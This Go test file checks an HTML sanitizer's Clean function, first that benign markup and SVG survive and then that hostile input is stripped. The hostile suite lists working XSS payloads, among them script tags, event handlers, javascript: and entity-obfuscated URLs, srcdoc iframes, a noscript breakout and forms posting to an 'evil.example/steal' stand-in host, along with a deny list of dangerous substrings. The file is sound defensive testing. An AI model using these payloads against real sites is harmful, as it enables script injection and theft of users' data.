package sanitize

import (
	"strings"
	"testing"
)

// What blocks are made of must survive.
func TestKeepsWhatBlocksAreMadeOf(t *testing.T) {
	keep := []struct{ in, want string }{
		{`<button type="button" id="inc" class="btn" aria-label="Add one" data-step="1">+1</button>`, `<button type="button" id="inc" class="btn" aria-label="Add one" data-step="1">+1</button>`},
		{`<input type="text" name="q" placeholder="Filter" value="a" required="">`, `<input type="text" name="q" placeholder="Filter" value="a" required="">`},
		{`<select name="s"><option value="1" selected="">One</option></select>`, `<select name="s"><option value="1" selected="">One</option></select>`},
		{`<label for="x">X</label><textarea id="x" rows="3">hi</textarea>`, `<label for="x">X</label><textarea id="x" rows="3">hi</textarea>`},
		{`<details open=""><summary>More</summary>text</details>`, `<details open=""><summary>More</summary>text</details>`},
		{`<dialog open="">hi</dialog>`, `<dialog open="">hi</dialog>`},
		{`<table><thead><tr><th scope="col" colspan="2">A</th></tr></thead></table>`, `<table><thead><tr><th scope="col" colspan="2">A</th></tr></thead></table>`},
		{`<div style="color: rgb(124, 58, 237); width: 36px">x</div>`, `<div style="color: rgb(124, 58, 237); width: 36px">x</div>`},
		{`<style>.a{color:red}</style><p class="a">x</p>`, `<style>.a{color:red}</style><p class="a">x</p>`},
		{`<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`},
		{`<form novalidate=""><input name="bill"><button>Go</button></form>`, `<form novalidate=""><input name="bill"><button>Go</button></form>`},
		{`<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>`, `<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>`},
	}
	for _, k := range keep {
		got, removed := Clean(k.in)
		if got != k.want {
			t.Errorf("Clean(%s)\n got %s\nwant %s", k.in, got, k.want)
		}
		if len(removed) != 0 {
			t.Errorf("Clean(%s) reports removals %+v", k.in, removed)
		}
	}
	svg := `<svg viewBox="0 0 100 50" width="100" role="img" aria-label="chart"><defs><linearGradient id="g" x1="0" x2="0" y1="0" y2="1"><stop offset="0%" stop-color="#7c3aed"></stop></linearGradient></defs>` +
		`<rect x="0" y="10" width="20" height="40" fill="url(#g)" rx="2"></rect><use href="#g"></use><text x="5" y="8" text-anchor="middle" font-size="6">Q1</text>` +
		`<path d="M0 0L10 10" stroke="#333" stroke-width="2" fill="none"></path><animateTransform attributeName="transform" type="rotate" dur="1s"></animateTransform></svg>`
	got, removed := Clean(svg)
	for _, want := range []string{`viewbox="0 0 100 50"`, `<lineargradient id="g"`, `stop-color="#7c3aed"`, `fill="url(#g)"`, `<use href="#g">`, `text-anchor="middle"`, `<path d="M0 0L10 10"`, `attributename="transform"`} {
		if !strings.Contains(got, want) {
			t.Errorf("SVG lost %s:\n%s", want, got)
		}
	}
	if len(removed) != 0 {
		t.Errorf("SVG removals: %+v", removed)
	}
}

// The hostile markup suite: none of it may survive in a form that runs.
func TestRemovesEverythingActive(t *testing.T) {
	hostile := map[string]string{
		"script":            `<p>a</p><script>alert(1)</script>`,
		"onerror":           `<img src="x" onerror="alert(1)">`,
		"javascript link":   `<a href="javascript:alert(1)">x</a>`,
		"javascript entity": `<a href="jav&#x61;script:alert(1)">x</a>`,
		"svg script":        `<svg><script>alert(1)</script></svg>`,
		"svg onload":        `<svg onload="alert(1)"><circle r="2"></circle></svg>`,
		"foreignObject":     `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
		"srcdoc":            `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		"meta refresh":      `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		"base":              `<base href="https://evil.example/">`,
		"form action":       `<form action="https://evil.example/steal"><button formaction="javascript:alert(1)">x</button></form>`,
		"object":            `<object data="x.swf"></object><embed src="x.swf">`,
		"svg use remote":    `<svg><use href="https://evil.example/x.svg#a"></use></svg>`,
		"svg animate href":  `<svg><a><animate attributeName="href" to="javascript:alert(1)"></animate><text>x</text></a></svg>`,
		"svg set":           `<svg><set attributeName="onmouseover" to="alert(1)"></set></svg>`,
		"style expression":  `<div style="width: expression(alert(1))">x</div>`,
		"style remote":      `<div style="background: url(https://evil.example/t.png)">x</div>`,
		"data html":         `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		"mathml href":       `<math href="javascript:alert(1)"><mi>x</mi></math>`,
		"style breakout":    `<style></style><script>alert(1)</script></style>`,
		"noscript":          `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	}
	for name, in := range hostile {
		got, removed := Clean(in)
		low := strings.ToLower(got)
		for _, bad := range []string{"<script", "onerror", "onload", "javascript:", "<iframe", "srcdoc", "<meta", "<base", "action=", "<object", "<embed", "evil.example", "expression(", "onmouseover", "<foreignobject", "data:text/html"} {
			if strings.Contains(low, bad) {
				t.Errorf("%s: %q survived: %s", name, bad, got)
			}
		}
		if len(removed) == 0 {
			t.Errorf("%s: nothing reported as removed (%s)", name, got)
		}
		for _, r := range removed {
			if r.Why == "" || r.Count <= 0 {
				t.Errorf("%s: removal without a reason: %+v", name, r)
			}
		}
	}
	_, removed := Clean(`<button onclick="go()">Go</button><script>x</script><script>y</script>`)
	if len(removed) != 2 || removed[0].What != "<script>" || removed[0].Count != 2 || removed[1].What != "onclick attribute" {
		t.Fatalf("removals: %+v", removed)
	}
}

// A live session's page keeps the bridge's node ids on every element and
// loses what would run in the browser, as the output page does.
func TestLivePageKeepsNodeIDs(t *testing.T) {
	in := `<div data-symposium-node="1"><button data-symposium-node="2" onclick="steal()">+</button>` +
		`<input data-symposium-node="3" value="a"><script data-symposium-node="4">steal()</script>` +
		`<svg data-symposium-node="5"><circle data-symposium-node="6" r="3" onload="x()"></circle></svg>` +
		`<a data-symposium-node="7" href="javascript:steal()">x</a><form data-symposium-node="8" action="https://evil.example/"></form></div>`
	got, removed := Clean(in)
	for _, n := range []string{"1", "2", "3", "5", "6", "7", "8"} {
		if !strings.Contains(got, `data-symposium-node="`+n+`"`) {
			t.Errorf("node %s lost: %s", n, got)
		}
	}
	for _, bad := range []string{"<script", "onclick", "onload", "javascript:", "action=", "steal"} {
		if strings.Contains(got, bad) {
			t.Errorf("%s kept: %s", bad, got)
		}
	}
	if len(removed) == 0 {
		t.Fatal("removals not reported")
	}
	if css := CSS("p{color:red}</style><script>x</script>"); strings.Contains(css, "</style") || !strings.HasPrefix(css, "p{color:red}") {
		t.Fatalf("CSS: %q", css)
	}
}
